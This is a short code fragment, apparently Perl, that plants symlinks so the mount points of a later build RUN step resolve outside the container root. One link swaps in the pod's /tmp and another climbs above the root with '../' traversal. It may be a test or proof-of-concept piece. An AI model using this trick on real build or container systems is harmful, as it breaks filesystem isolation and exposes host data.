# Mount points of the next RUN lead out of the root, if a path is believed: /swapped -> the pod's /tmp, /link -> above the root.
symlink('/tmp', '/swapped') or die;
symlink('../../../../../../../../var/tmp', '/link') or die;
